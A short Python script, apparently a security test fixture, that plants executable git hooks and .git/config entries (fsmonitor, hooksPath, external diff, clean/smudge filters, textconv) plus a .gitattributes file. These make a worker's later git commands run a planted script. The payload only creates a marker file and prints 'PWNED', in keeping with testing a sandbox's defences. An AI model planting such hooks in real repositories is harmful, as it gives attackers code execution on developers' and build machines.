"""Attack: leave hooks and config in the checkout's .git that run whatever the
worker's git does next: each would create the file named by argv[1]."""

import os
import sys
from pathlib import Path

marker = sys.argv[1]
git = Path(".git")
script = f"#!/bin/sh\ntouch {marker}\necho PWNED\n"
for hook in ("post-checkout", "pre-commit", "post-index-change", "fsmonitor-watchman",
             "reference-transaction", "pre-auto-gc"):
    (git / "hooks" / hook).write_text(script)
    os.chmod(git / "hooks" / hook, 0o755)
evil = Path(".git/evil.sh")
evil.write_text(script)
os.chmod(evil, 0o755)
with open(git / "config", "a") as config:
    # Relative: git runs these from the work tree's top, wherever the host has it.
    config.write("[core]\n\tfsmonitor = .git/evil.sh\n\thooksPath = .git/hooks\n"
                 "[diff]\n\texternal = .git/evil.sh\n"
                 '[filter "x"]\n\tclean = .git/evil.sh\n\tsmudge = .git/evil.sh\n'
                 '[diff "x"]\n\ttextconv = .git/evil.sh\n')
Path(".gitattributes").write_text("* filter=x diff=x\n")
Path("src/app.py").write_text("def add(a, b):\n    return a + b\n")
print("planted")
